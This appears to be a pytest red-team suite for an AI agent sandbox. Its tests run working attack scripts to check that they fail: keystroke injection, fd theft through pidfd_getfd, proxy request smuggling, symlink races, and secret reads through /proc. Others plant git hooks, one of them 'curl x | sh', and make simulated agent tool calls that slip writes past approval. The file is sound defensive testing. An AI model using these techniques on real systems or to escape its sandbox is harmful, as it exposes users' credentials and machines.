"""Red-team round: THREATS.md attacks through the paths the rest of the suite covers less.

Sessions (a confined worker serving many commands and file operations), the agent's
tools through `agent.orchestrator`, `stockade run` as a real subprocess of a root
caller (extra fds, a real pty), and proxy-parsing tricks of the allowlist. Every
attack is judged from the host side: victim bytes, what host servers received,
secrets absent from everything handed back. The four that got through when this
file was written are fixed (secrets created or swapped on the host during a session,
an approved patch writing .git unsandboxed, temp files left by a symlink race) and
are regression tests now.
"""

from __future__ import annotations

import contextlib
import faulthandler
import fcntl
import json
import os
import shutil
import socket
import subprocess
import termios
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import CANARY, PATH, PY, PYTHON, RUN_TIMEOUT, Box, NetSpy, drain, frame_summary, snap, wait_until

from policies.model import Limits, Mode, NetworkMode, NetworkPolicy, SandboxPolicy
from sandbox.session import FileOpError, Session, SessionError

STOCKADE_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _hang_guard() -> Iterator[None]:
    faulthandler.dump_traceback_later(150, exit=True)
    yield
    faulthandler.cancel_dump_traceback_later()


def _policy(box: Box, mode: str = "workspace-write", **kw: Any) -> SandboxPolicy:
    return SandboxPolicy(mode=Mode("full-access" if CANARY else mode), workspace=str(box.ws),
                         limits=Limits(timeout=RUN_TIMEOUT), **kw)


@pytest.fixture
def session(box: Box, backend: str) -> Iterator[Session]:
    s = Session(_policy(box), backend=backend, host=box.host).start()
    try:
        yield s
    finally:
        s.close()


def _collect(fn: Any, *args: Any, **kw: Any) -> str:
    """Whatever a file operation hands back, as text (a refusal's message included)."""
    try:
        got = fn(*args, **kw)
    except FileOpError as exc:
        return str(exc)
    if hasattr(got, "data"):
        return got.data.decode("utf-8", "replace")
    if hasattr(got, "matches"):
        return "\n".join(m.text for m in got.matches)
    return " ".join(getattr(e, "name", str(e)) for e in got)


# ---------------------------------------------------------------- sessions: secrets that appear later


LATE_SECRETS = {
    ".aws/credentials": "[default]\naws_secret_access_key = {secret}\n",
    ".git-credentials": "https://me:{secret}@example.invalid\n",
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: {secret}\n",
}


def test_session_secret_created_after_start_stays_unreadable(box: Box, backend: str) -> None:
    """The user logs in to a cloud CLI in another terminal while the agent's session is open."""
    shutil.rmtree(box.home / ".aws")
    secret = f"LATE{box.marker}"
    with Session(_policy(box), backend=backend, host=box.host) as s:
        s.exec(["true"])  # the worker is up and confined before the secrets exist
        for rel, text in LATE_SECRETS.items():
            path = box.home / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text.format(secret=secret))
        files = " ".join(str(box.home / rel) for rel in LATE_SECRETS)
        r = s.exec(["sh", "-c", f"cat {files} 2>&1; grep -r . {box.home} 2>&1"], env=box.env)
        texts = [(r.stdout + r.stderr).decode("utf-8", "replace")]
        texts += [_collect(s.read_file, box.home / rel) for rel in LATE_SECRETS]
        texts.append(_collect(s.search, "LATE", str(box.home)))
    leaked = [t for t in texts if secret in t]
    assert not leaked, f"{backend}: secrets created during the session were read: {leaked[:2]}"


REPLACE = {
    # editors and credential helpers (git credential-store, ssh-keygen) write a temp file and rename it over
    "file-renamed-over": None,
    # a tool that rebuilds its directory: mv ~/.aws ~/.aws.bak && mkdir ~/.aws && write credentials
    # (the session retires its worker; the renamed directory stays denied under its new name)
    "dir-swapped": None,
}


@pytest.mark.parametrize("how", [pytest.param(k, marks=v) if v else k for k, v in REPLACE.items()])
def test_session_secret_replaced_on_host_stays_unreadable(box: Box, backend: str, how: str) -> None:
    secret = f"NEW{box.marker}"
    with Session(_policy(box), backend=backend, host=box.host) as s:
        s.exec(["true"])
        if how == "file-renamed-over":
            targets = [box.home / ".netrc", box.home / ".ssh" / "id_rsa", box.home / ".aws" / "credentials"]
            for path in targets:
                tmp = path.with_name(path.name + ".tmp")
                tmp.write_text(f"password {secret}\n")
                os.rename(tmp, path)
        else:
            os.rename(box.home / ".aws", box.home / ".aws.old")
            (box.home / ".aws").mkdir()
            (box.home / ".aws" / "credentials").write_text(f"key = {secret}\n")
            targets = [box.home / ".aws" / "credentials", box.home / ".aws.old" / "credentials"]
        files = " ".join(map(str, targets))
        r = s.exec(["sh", "-c", f"cat {files} 2>&1"], env=box.env)
        texts = [(r.stdout + r.stderr).decode("utf-8", "replace")]
        texts += [_collect(s.read_file, path) for path in targets]
    leaked = [t for t in texts if secret in t or box.secrets["aws"] in t]
    assert not leaked, f"{backend}: a replaced secret was read ({how}): {leaked[:2]}"


# ---------------------------------------------------------------- sessions: races against the worker's file ops


FLIPPER = r'''
import os, sys, time
ws, outside, stop = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
targets = {"d-out": outside, "d-git": os.path.join(ws, ".git", "hooks")}
while time.monotonic() < stop:
    for name, target in targets.items():
        link, real = os.path.join(ws, name), os.path.join(ws, name + ".real")
        for step in (lambda: os.rename(link, real), lambda: os.symlink(target, link),
                     lambda: os.unlink(link), lambda: os.rename(real, link)):
            try:
                step()
            except OSError:
                pass
'''


def _flip_race(box: Box, backend: str, seconds: float) -> None:
    """A command flips workspace directories between real dirs and symlinks (to an outside dir, into
    .git/hooks) while the host keeps writing through them with write_file and apply_edits."""
    import trio

    for name in ("d-out", "d-git"):
        (box.ws / name).mkdir()
        (box.ws / name / "f").write_text("inside\n")
    (box.ws / "flip.py").write_text(FLIPPER)

    async def main() -> None:
        async with Session(_policy(box), backend=backend, host=box.host) as s:
            proc = await s.open_process([PYTHON, "-I", "-S", "flip.py", str(box.ws), str(box.outside),
                                         str(seconds + 0.5)], env=box.env)
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                for name in ("d-out", "d-git"):
                    with contextlib.suppress(FileOpError):
                        await s.awrite_file(f"{name}/victim.txt", f"pwned {box.marker}\n")
                    with contextlib.suppress(FileOpError):
                        await s.aapply_edits([{"path": f"{name}/pre-commit", "content": "#!/bin/sh\necho pwned\n"},
                                              {"path": f"{name}/f", "content": "x\n"}])
            await proc.wait()

    trio.run(main)


def test_session_symlink_swap_race_against_file_ops(box: Box, backend: str) -> None:
    before_out, before_git = snap(box.outside), snap(box.ws / ".git")
    _flip_race(box, backend, 3.0)
    assert snap(box.outside) == before_out, f"{backend}: a file op followed a swapped symlink outside"
    assert snap(box.ws / ".git") == before_git, f"{backend}: a file op followed a swapped symlink into .git"


def test_session_file_op_race_leaves_no_temp_files(box: Box, backend: str) -> None:
    _flip_race(box, backend, 1.5)
    leftovers = sorted(str(p.relative_to(box.root)) for p in box.root.rglob("*.stockade-*"))
    assert not leftovers, f"{len(leftovers)} temp files left behind, e.g. {leftovers[:3]}"


# ---------------------------------------------------------------- sessions: terminal and network


INJECT = r'''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
with __import__("contextlib").suppress(OSError):
    os.setsid()
libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_ulong(0x540E), ctypes.c_long(0))  # TIOCSCTTY
for req in (0x5412, 0xFFFFFFFF00005412):
    for ch in sys.argv[1].encode() + b"\n":
        c = ctypes.c_char(ch)
        libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_ulong(req), ctypes.byref(c))
print("done")
'''


def test_session_no_keystroke_injection(session: Session, box: Box, pty_pair: tuple[int, int]) -> None:
    master, slave = pty_pair
    (box.root / "inject.py").write_text(INJECT)
    payload = "INJ" + box.marker
    session.exec([PYTHON, "-I", "-S", str(box.root / "inject.py"), payload], stdin=slave, env=box.env)
    got = drain(master) + drain(slave)
    assert payload.encode() not in got, "a session command pushed keystrokes into the caller's terminal"


NET_ATTACK = r'''
import json, socket, sys
for fam, kind, addr in json.loads(sys.argv[1]):
    try:
        s = socket.socket(fam, kind)
        s.settimeout(1)
        if fam == socket.AF_UNIX and addr.startswith("@"):
            addr = "\0" + addr[1:]
        elif fam != socket.AF_UNIX:
            addr = tuple(addr)
        if kind == socket.SOCK_DGRAM:
            s.sendto(sys.argv[2].encode(), addr)
        else:
            s.connect(addr)
            s.send(sys.argv[2].encode())
        print("SENT", addr)
    except OSError as exc:
        print("failed", addr, exc)
'''


def test_session_network_off_v6_and_host_unix_sockets(session: Session, box: Box, spy: NetSpy) -> None:
    inet, inet6, unix = int(socket.AF_INET), int(socket.AF_INET6), int(socket.AF_UNIX)
    tcp, udp = int(socket.SOCK_STREAM), int(socket.SOCK_DGRAM)
    targets = [
        [inet6, tcp, ["::1", spy.tcp6]], [inet6, udp, ["::1", spy.udp6]],
        [inet6, tcp, ["::ffff:127.0.0.1", spy.tcp4]], [inet, udp, ["127.0.0.1", spy.udp4]],
        [unix, tcp, "@" + spy.abstract], [unix, tcp, str(spy.unix["outside-dir"])],
        [unix, tcp, str(spy.unix["under-run"])], [unix, tcp, str(spy.unix["bind-mounted-dir-alias"])],
    ]
    (box.root / "net.py").write_text(NET_ATTACK)
    r = session.exec([PYTHON, "-I", "-S", str(box.root / "net.py"), json.dumps(targets), box.marker], env=box.env)
    seen = spy.seen()
    assert not seen, f"a session command reached the host network: {frame_summary(seen)}\n{r.stdout!r}"


# ---------------------------------------------------------------- the agent's tools (orchestrator)


def _orchestrate(box: Box, backend: str, approval: str, calls: list[tuple[str, dict[str, Any]]],
                 answer: str = "approved") -> tuple[list[str], list[dict[str, Any]]]:
    """Run tool calls through the orchestrator; approval requests get `answer`. (outputs, requests)."""
    import trio

    from agent.items import ToolCall
    from agent.orchestrator import Orchestrator
    from agent.protocol import ApprovalRequest
    from agent.tools import default_tools

    policy = _policy(box)
    outputs: list[str] = []
    asked: list[dict[str, Any]] = []

    async def main() -> None:
        async with Session(policy, backend=backend, host=box.host) as s:
            holder: list[Orchestrator] = []

            async def emit(event: Any) -> None:
                if isinstance(event, ApprovalRequest):
                    asked.append(event.model_dump())
                    holder[0].decide(event.call_id, answer)  # type: ignore[arg-type]

            orch = Orchestrator(s, policy, default_tools(), approval, emit)  # type: ignore[arg-type]
            holder.append(orch)
            try:
                for i, (name, args) in enumerate(calls):
                    res = await orch.run(ToolCall(id=f"c{i}", name=name, arguments=json.dumps(args)))
                    outputs.append(str(res.output))
            finally:
                await orch.aclose()

    trio.run(main)
    return outputs, asked


def test_agent_patch_approval_does_not_unprotect_git(box: Box, backend: str) -> None:
    """The model makes a symlink to an outside dir, then one patch: a file there (the user is asked about
    it) and a git hook (never shown to the user). Only the shown path may be written."""
    (box.ws / "notes").symlink_to(box.outside)
    hooks = box.ws / ".git" / "hooks"
    before = snap(box.ws / ".git")
    patch = ("*** Begin Patch\n*** Add File: notes/todo.txt\n+remember the milk\n"
             f"*** Add File: .git/hooks/post-checkout\n+#!/bin/sh\n+echo pwned {box.marker}\n*** End Patch\n")
    outputs, asked = _orchestrate(box, backend, "on-request", [("apply_patch", {"patch": patch})])
    shown = [p for req in asked for p in req["paths"]]
    if not (hooks / "post-checkout").exists():
        assert snap(box.ws / ".git") == before
        return
    assert any(".git" in p for p in shown), (
        f"a hook was written outside the sandbox; the user was only asked about {shown}\n{outputs}")


def test_agent_read_tools_and_patch_paths(box: Box, backend: str) -> None:
    """read_file / list_dir / search on secrets through links and /proc, a host process whose cwd is
    ~/.ssh, and patches aimed at .git, at `..` through a shell `cd`, and through a symlink (approval never)."""
    holder = subprocess.Popen(["sleep", "120"], cwd=box.home / ".ssh", start_new_session=True,
                              env={"PATH": PATH})
    hp = holder.pid
    home = box.home
    try:
        calls: list[tuple[str, dict[str, Any]]] = [
            ("shell", {"command": ["sh", "-c", f"ln -s {home}/.ssh keys; ln -s {home}/.aws/credentials aws; "
                                                f"ln -s {box.outside} out"]}),
            ("read_file", {"path": "keys/id_rsa"}),
            ("read_file", {"path": "aws"}),
            ("read_file", {"path": f"/proc/self/root{home}/.ssh/id_rsa"}),
            ("read_file", {"path": f"/proc/{hp}/cwd/id_rsa"}),
            ("read_file", {"path": f"/proc/{hp}/root{home}/.netrc"}),
            ("read_file", {"path": "../home/.gnupg/private-keys-v1.d/key.key"}),
            ("list_dir", {"path": "keys"}),
            ("list_dir", {"path": f"/proc/{hp}/cwd"}),
            ("search", {"pattern": ".", "path": "keys"}),
            ("search", {"pattern": "S3CRET|secret", "path": str(home)}),
            ("search", {"pattern": ".", "path": f"/proc/{hp}/cwd"}),
            ("apply_patch", {"patch": "*** Begin Patch\n*** Update File: .git/config\n@@\n+[core]\n+\tfsmonitor = "
                                      "echo pwned\n*** End Patch\n"}),
            ("apply_patch", {"patch": f"*** Begin Patch\n*** Add File: .git/hooks/pre-push\n+#!/bin/sh\n+{box.marker}"
                                      "\n*** End Patch\n"}),
            ("shell", {"command": ["sh", "-c", "cd .. && apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: "
                                               f"outside/new.txt\n+{box.marker}\n*** End Patch\nEOF"]}),
            ("apply_patch", {"patch": f"*** Begin Patch\n*** Add File: out/new2.txt\n+{box.marker}\n*** End Patch\n"}),
            ("apply_patch", {"patch": "*** Begin Patch\n*** Update File: out/victim.txt\n@@\n-victim file "
                                      f"{box.marker}\n+pwned\n*** End Patch\n"}),
        ]
        before_out, before_git = snap(box.outside), snap(box.ws / ".git")
        outputs, asked = _orchestrate(box, backend, "never", calls)
    finally:
        holder.kill()
        holder.wait(10)
    text = "\n".join(outputs)
    leaked = box.leaked(text)
    assert not leaked, f"{backend}: a read tool handed a secret to the model: {leaked}"
    assert snap(box.outside) == before_out, f"{backend}: a patch wrote outside\n{text[-2000:]}"
    assert snap(box.ws / ".git") == before_git, f"{backend}: a patch wrote into .git\n{text[-2000:]}"
    assert not asked


# ---------------------------------------------------------------- `stockade run` as a real subprocess


def _stockade(box: Box, backend: str, mode: str, script: str, **popen: Any) -> list[str]:
    return [PYTHON, "-c", "import sys; from agent.cli import main; sys.argv[0] = 'stockade'; main()",
            "run", "--backend", backend, "--policy", "read-only" if mode == "read-only" else "workspace-write",
            "--cwd", str(box.ws), "--timeout", str(RUN_TIMEOUT), "--", "sh", "-c", script]


def _cli_env(box: Box) -> dict[str, str]:
    return {**box.env, "PYTHONPATH": str(STOCKADE_ROOT), "XDG_CONFIG_HOME": str(box.root / "xdg-config"),
            "XDG_STATE_HOME": str(box.root / "xdg-state"), "XDG_CACHE_HOME": str(box.root / "xdg-cache")}


FD_PROBE = r'''
import os, sys
for n in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{n}")
    except OSError:
        continue
    print("OPEN", n, target, flush=True)
    try:
        print("READ", n, os.pread(n, 200, 0) if target.startswith("/") else os.read(n, 200), flush=True)
    except OSError as exc:
        print("read failed", n, exc)
    if target.startswith("socket:"):
        try:
            os.write(n, sys.argv[1].encode())
        except OSError as exc:
            print("write failed", n, exc)
'''


def test_cli_caller_fds_not_inherited(backend: str, mode: str, box: Box, spy: NetSpy) -> None:
    """`stockade run` started by a caller holding an inheritable fd on a secret and a socket to a host server."""
    secret_fd = os.open(box.home / ".ssh" / "fd_secret", os.O_RDONLY)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(str(spy.unix["outside-dir"]))
    tcp = socket.create_connection(("127.0.0.1", spy.tcp4))
    (box.root / "fdprobe.py").write_text(FD_PROBE)
    fds = (secret_fd, sock.fileno(), tcp.fileno())
    try:
        proc = subprocess.run(_stockade(box, backend, mode, f"{PY} {box.root}/fdprobe.py {box.marker} 2>&1"),
                              env=_cli_env(box), pass_fds=fds, capture_output=True, timeout=60)
    finally:
        os.close(secret_fd)
        sock.close()
        tcp.close()
    out = (proc.stdout + proc.stderr).decode("utf-8", "replace")
    assert box.secrets["fd"] not in out, f"the caller's secret fd was readable inside\n{out}"
    data = [e for e in spy.seen_by("outside-dir", "tcp4") if e[1] in ("data", "datagram")]
    assert not data, f"an inherited socket carried data to the host: {data}\n{out}"


def test_cli_no_keystroke_injection_on_real_pty(backend: str, box: Box) -> None:
    """The caller is an interactive shell: `stockade run` on a real pty that is its controlling terminal."""
    (box.root / "inject.py").write_text(INJECT)
    payload = "INJ" + box.marker
    master, slave = os.openpty()

    def as_terminal() -> None:
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    try:
        proc = subprocess.Popen(_stockade(box, backend, "workspace-write", f"{PY} {box.root}/inject.py {payload}"),
                                stdin=slave, stdout=slave, stderr=slave, env=_cli_env(box),
                                preexec_fn=as_terminal)
        out = b""
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline:
            out += drain(master)
            time.sleep(0.05)
        if proc.poll() is None:
            proc.kill()
        proc.wait(10)
        out += drain(master)
        queued = drain(slave)
    finally:
        os.close(master)
        os.close(slave)
    assert b"done" in out or CANARY, out
    # Echoed by the line discipline or left queued for the caller's shell to read: either is an injection.
    assert payload.encode() not in queued and out.count(payload.encode()) <= 1, (
        f"keystrokes reached the caller's terminal: queued={queued!r} out={out!r}")


def test_cli_timeout_kills_detached_daemon(backend: str, box: Box) -> None:
    """setsid + double fork + ignoring SIGTERM/SIGHUP, then `stockade run` times out."""
    n = box.num
    script = (f"trap '' TERM HUP INT; (setsid sh -c 'trap \"\" TERM HUP; (sleep 300.{n} &) ; sleep 301.{n}' &); "
              f"sleep 302.{n}")
    argv = _stockade(box, backend, "workspace-write", script)
    argv[argv.index("--timeout") + 1] = "1.5"
    proc = subprocess.run(argv, env=_cli_env(box), capture_output=True, timeout=60)
    assert wait_until(lambda: not box.procs(), 5), f"survived the timeout: {box.procs()} rc={proc.returncode}"
    assert proc.returncode == 124 or CANARY, proc.stderr


# ---------------------------------------------------------------- allowlist: proxy-parsing tricks


TRICKS = r'''
import json, socket, sys
for raw in json.loads(sys.argv[1]):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
        s.sendall(raw.encode("latin-1"))
        print(repr(raw[:60]), s.recv(200)[:40])
    except OSError as exc:
        print("failed", exc)
'''


def test_allowlist_request_line_and_host_tricks(backend: str, box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    from test_sec_allowlist import Web

    web = Web("allowed", "other")
    monkeypatch.setenv("STOCKADE_PROXY_RESOLVE", "allowed.test=127.0.0.1,denied.test=127.0.0.1")
    port, other, m = web.ports["allowed"], web.ports["other"], box.marker
    reqs = [
        f"GET http://allowed.test:{other}/{m} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n",
        f"GET HTTP://ALLOWED.TEST.:{other}/{m} HTTP/1.1\r\n\r\n",
        f"GET http://allowed.test:{port}@denied.test:{other}/{m} HTTP/1.1\r\n\r\n",
        f"GET http://denied.test:{other}\\@allowed.test:{port}/{m} HTTP/1.1\r\n\r\n",
        f"GET http://denied.test:{other}#@allowed.test:{port}/{m} HTTP/1.1\r\n\r\n",
        f"GET http://allowed.test:0{other}/{m} HTTP/1.1\r\n\r\n",
        f"CONNECT allowed.test:{other} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n{m}",
        f"CONNECT allowed.test:+{other} HTTP/1.1\r\n\r\n{m}",
        f"CONNECT allowed.test:{other}\t HTTP/1.1\r\n\r\n{m}",
        f"CONNECT [::ffff:7f00:1]:{other} HTTP/1.1\r\n\r\n{m}",
        f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n{m}",
        f"CONNECT allowed.test%2e:{other} HTTP/1.1\r\n\r\n{m}",
        f"CONNECT xn--allowed-.test:{other} HTTP/1.1\r\n\r\n{m}",
        f"GET /{m} HTTP/1.1\r\nHost: denied.test:{other}\r\n\r\n",
        f"GET http://allowed.test:{port}/{m} HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n"
        f"xxxxxGET http://denied.test:{other}/{m}-smuggled HTTP/1.1\r\n\r\n",
    ]
    (box.root / "tricks.py").write_text(TRICKS)
    policy = SandboxPolicy(mode=Mode("full-access" if CANARY else "workspace-write"), workspace=str(box.ws),
                           network=NetworkPolicy(NetworkMode.ALLOWLIST, (f"allowed.test:{port}",)),
                           limits=Limits(timeout=30))
    import sandbox

    try:
        r = sandbox.run([PYTHON, "-I", "-S", str(box.root / "tricks.py"), json.dumps(reqs)], policy, env=box.env,
                        backend=backend, host=box.host)
    finally:
        web.close()
    assert not web.touched("other"), f"{backend}: another port was reached: {web.got('other')[:300]!r}\n{r.stdout!r}"
    assert f"{m}-smuggled".encode() not in web.got("allowed").split(b"\r\n\r\n", 1)[0]


# ---------------------------------------------------------------- sessions: leftovers and the worker


def test_session_worker_survives_command_attacks(session: Session, box: Box) -> None:
    """A command stops, signals and tries to steal fds of its worker (pidfd_getfd, /proc/<worker>/fd),
    then the host checks that the same worker still serves, confined, and the victim is intact."""
    pid = session.worker_pid
    script = r'''
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
w = os.getppid()
try:
    pfd = os.pidfd_open(w)
    for n in range(3, 64):
        fd = libc.syscall(438, pfd, n, 0)  # pidfd_getfd
        if fd >= 0:
            print("GOT", n, os.readlink(f"/proc/self/fd/{fd}"), flush=True)
            os.write(fd, b'\x00\x00\x00\x2b{"op":"run","id":99,"argv":["true"],"nfds":0}')
except OSError as exc:
    print("pidfd", exc)
for n in range(3, 64):
    try:
        os.close(os.open(f"/proc/{w}/fd/{n}", os.O_RDWR))
        print("OPENED", n, flush=True)
    except OSError:
        pass
for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCONT):
    with __import__("contextlib").suppress(OSError):
        os.kill(w, sig)
'''
    before = box.victim.read_bytes()
    out = b""
    try:  # a signal may take the worker down (a confined successor takes over): denial of service only
        out = session.exec([PYTHON, "-I", "-S", "-c", script], env=box.env, timeout=5).stdout
    except SessionError as exc:
        out = exc.stdout
    time.sleep(0.2)
    after = session.exec(["sh", "-c", f"echo pwned > {box.victim}; grep -E '^(CapEff|NoNewPrivs)' /proc/self/status"])
    assert box.victim.read_bytes() == before
    assert b"GOT" not in out and b"OPENED" not in out, out
    if not CANARY:
        assert session.worker_pid is not None and session.ping()["ok"], (pid, session.worker_pid)
        assert b"CapEff:\t0000000000000000" in after.stdout and b"NoNewPrivs:\t1" in after.stdout


def test_session_close_leaves_nothing_and_no_process(box: Box, backend: str) -> None:
    """A command leaves a detached daemon and files in the session's /tmp, then the session is closed."""
    m = box.marker
    before_root = {p.name for p in box.root.iterdir()}
    with Session(_policy(box), backend=backend, host=box.host) as s:
        s.exec(["sh", "-c", f"(setsid sh -c 'trap \"\" TERM HUP; sleep 300.{box.num}' </dev/null >/dev/null 2>&1 &); "
                            f"mkfifo /tmp/fifo-{m}; echo x > /tmp/file-{m}"], env=box.env)
        s.write_file("made.txt", "x")
    assert wait_until(lambda: not box.procs(), 5), f"{backend}: a process outlived the session: {box.procs()}"
    assert {p.name for p in box.root.iterdir()} == before_root
    stray = [p for p in ("/tmp", "/var/tmp", "/dev/shm") for n in os.listdir(p) if m in n]
    assert not stray, stray



# ---------------------------------------------------------------- stockade's own code in the workspace


def test_stockade_run_from_a_venv_in_the_workspace_cannot_change_its_own_code(box: Box, backend: str) -> None:
    """stockade installed in the project's .venv: a command that edits that venv (stockade's modules, a
    library it imports, the interpreter's config) would run its code unconfined at the next `stockade`."""
    import site
    import venv

    env_dir = box.ws / ".venv"
    venv.EnvBuilder(system_site_packages=False, with_pip=False, symlinks=True).create(env_dir)
    pyvenv = env_dir / "pyvenv.cfg"
    before = pyvenv.read_bytes()
    repo = Path(__file__).resolve().parents[2]
    paths = os.pathsep.join([str(repo), *site.getsitepackages()])
    proc = subprocess.run(
        [str(env_dir / "bin" / "python"), "-c", "from agent.cli import main; main()", "run", "--no-config",
         "--backend", backend, "--cwd", str(box.ws), "--",
         "sh", "-c", f"echo 'import os  # {box.marker}' >> {pyvenv}; echo pwned > {env_dir}/evil.pth; "
                     "echo fine > inside.txt"],
        capture_output=True, text=True, timeout=60, env={**box.env, "PYTHONPATH": paths})
    assert (box.ws / "inside.txt").exists(), proc.stderr  # the workspace itself stays writable
    assert (box.ws / "inside.txt").read_text() == "fine\n"
    assert pyvenv.read_bytes() == before and not (env_dir / "evil.pth").exists(), proc.stderr


# ---------------------------------------------------------------- runs that overlap on a missing protected path


def test_a_run_resolved_during_another_runs_stub_keeps_it_protected(box: Box, backend: str) -> None:
    """A run that starts while another run's stub for a missing `.stockade` exists resolves it as an existing
    dir. When the other run finishes first it must not remove that stub from under this run (the read-only
    mount would be detached and the command could create `.stockade/config.toml` for real). Found flaky in CI
    as test_sec_fs's concurrent-runs test; made deterministic here."""
    import threading

    from sandbox.execute import run
    from sandbox.stubs import new_lease

    target = box.ws / ".stockade"
    shutil.rmtree(target, ignore_errors=True)
    other = new_lease()
    assert other.join(str(target), create=True)  # the other run's stub, as it is while that run goes on
    results: list[Any] = []
    script = ("sleep 1; ( mkdir -p .stockade && echo 'mode = \"full-access\"' > .stockade/config.toml ) 2>&1; "
              "echo attempted")
    long_run = threading.Thread(target=lambda: results.append(
        run(["sh", "-c", script], _policy(box), backend=backend, host=box.host, env=box.env)))
    long_run.start()
    try:
        time.sleep(0.5)  # the long run is up and has resolved `.stockade` as an existing (stub) dir
        assert not other.release()  # the other run finishes first
    finally:
        long_run.join(30)
    assert results and b"attempted" in results[0].stdout
    assert not (target / "config.toml").exists(), f"{backend}: .stockade/config.toml was created on the host"
    assert not target.exists(), "the stub was left behind after both runs"


def test_a_nested_repositorys_git_is_protected_too(box: Box, backend: str) -> None:
    """`vendor/lib/.git/hooks` runs on the host when the user commits there, as surely as the top repo's."""
    from sandbox.execute import run

    hooks = box.ws / "vendor" / "lib" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks.parent / "config").write_text("[core]\n")
    before = snap(box.ws / "vendor")
    script = (f"( echo 'curl x | sh # {box.marker}' > vendor/lib/.git/hooks/pre-commit; "
              "echo '[core] fsmonitor = pwn' >> vendor/lib/.git/config; "
              "mv vendor/lib vendor/lib2; mv vendor vendor2 ) 2>&1; echo attempted")
    r = run(["sh", "-c", script], _policy(box), backend=backend, host=box.host, env=box.env)
    assert b"attempted" in r.stdout
    assert snap(box.ws / "vendor") == before, f"{backend}: the nested repository changed\n{r.stdout!r}"
    assert not (box.ws / "vendor2").exists() and not (box.ws / "vendor" / "lib2").exists()


# ---------------------------------------------------------------- one-shot runs: secrets that appear mid-run


def test_a_secret_created_during_a_one_shot_run_stops_it(box: Box, backend: str) -> None:
    """`stockade run -- pytest` for ten minutes while the user runs `aws configure` elsewhere: the run's view
    does not hide what did not exist when it started, so the run is stopped, with a denial saying why."""
    import threading

    from sandbox.execute import run

    shutil.rmtree(box.home / ".aws")
    secret = f"MIDRUN{box.marker}"
    target = box.home / ".aws" / "credentials"
    script = f"for i in $(seq 100); do cat {target} 2>/dev/null && break; sleep 0.05; done; echo finished"
    results: list[Any] = []
    worker = threading.Thread(target=lambda: results.append(
        run(["sh", "-c", script], _policy(box), backend=backend, host=box.host, env=box.env)))
    worker.start()
    time.sleep(1.0)
    target.parent.mkdir()
    target.write_text(f"key = {secret}\n")
    worker.join(30)
    assert results, "the run did not finish"
    r = results[0]
    assert secret.encode() not in r.stdout + r.stderr, f"{backend}: the secret created mid-run was read"
    assert any("deny-read entry changed" in d.rule for d in r.denials), r.denials


def test_a_secret_created_during_an_async_run_stops_it(box: Box, backend: str) -> None:
    import trio

    from sandbox.aio import arun

    shutil.rmtree(box.home / ".aws")
    secret = f"MIDARUN{box.marker}"
    target = box.home / ".aws" / "credentials"
    script = f"for i in $(seq 100); do cat {target} 2>/dev/null && break; sleep 0.05; done; echo finished"

    async def main() -> Any:
        async with trio.open_nursery() as nursery:
            async def plant() -> None:
                await trio.sleep(1.0)
                target.parent.mkdir()
                target.write_text(f"key = {secret}\n")
            nursery.start_soon(plant)
            return await arun(["sh", "-c", script], _policy(box), backend=backend, host=box.host, env=box.env)

    r = trio.run(main)
    assert secret.encode() not in r.stdout + r.stderr, f"{backend}: the secret created mid-run was read"
    assert any("deny-read entry changed" in d.rule for d in r.denials), r.denials


# ---------------------------------------------------------------- must work: git in a monorepo's subdirectory


def test_git_works_in_a_workspace_below_the_repositorys_top(box: Box, backend: str) -> None:
    """The workspace is `repo/svc`: git must find `repo/.git` across the sandbox's mount boundary (read-only)."""
    from sandbox.execute import run

    repo = box.root / "mono"
    (repo / "svc").mkdir(parents=True)
    (repo / "svc" / "a.txt").write_text("a\n")
    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"]):
        subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)
    policy = SandboxPolicy(mode=Mode("full-access" if CANARY else "workspace-write"), workspace=str(repo / "svc"),
                           limits=Limits(timeout=RUN_TIMEOUT))
    r = run(["sh", "-c", "echo b > b.txt; git status --short; git log --oneline | wc -l; git diff --stat"],
            policy, backend=backend, host=box.host, env=box.env)
    assert r.exit_code == 0, r.stderr
    assert r.stdout.split()[:3] == [b"??", b"b.txt", b"1"], r.stdout + r.stderr
